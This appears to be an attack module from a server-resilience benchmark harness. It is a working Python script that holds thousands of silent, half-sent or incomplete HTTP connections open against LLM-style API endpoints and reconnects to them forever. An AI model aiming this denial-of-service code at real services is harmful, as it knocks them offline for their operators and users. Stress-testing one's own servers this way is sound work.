"""HTTP connections that ask for nothing: silent ones, half heads, ones that were answered once. All come again."""

from __future__ import annotations

import asyncio
from urllib.parse import urlsplit

from bench.harness.target import Target

BEGUN = (
    b"",
    b"GET /v1/models HTTP/1.1\r\nhost: local",
    b"GET /livez HTTP/1.1\r\nhost: localhost\r\n\r\n",
    b"POST /api/chat HTTP/1.1\r\nhost: localhost\r\ncontent-length: 100\r\n\r\n{",
)
PAUSE_S = 1.0
"""Before one that was closed comes again."""

AT_ONCE = 100
"""That connect at the same time."""


async def attack(target: Target, connections: int = 2500, address: str = "127.0.0.1") -> None:
    connecting = asyncio.Semaphore(AT_ONCE)
    async with asyncio.TaskGroup() as group:
        for number in range(connections):
            group.create_task(_stay(target.url, BEGUN[number % len(BEGUN)], address, connecting))


async def _stay(url: str, begun: bytes, address: str, connecting: asyncio.Semaphore) -> None:
    split = urlsplit(url)
    while True:
        try:
            async with connecting:
                reader, writer = await asyncio.open_connection(split.hostname, split.port, local_addr=(address, 0))
        except OSError:
            await asyncio.sleep(PAUSE_S)
            continue
        try:
            writer.write(begun)
            while await reader.read(1 << 12):
                pass
        except OSError:
            pass  # reset
        finally:
            writer.transport.abort()
        await asyncio.sleep(PAUSE_S)
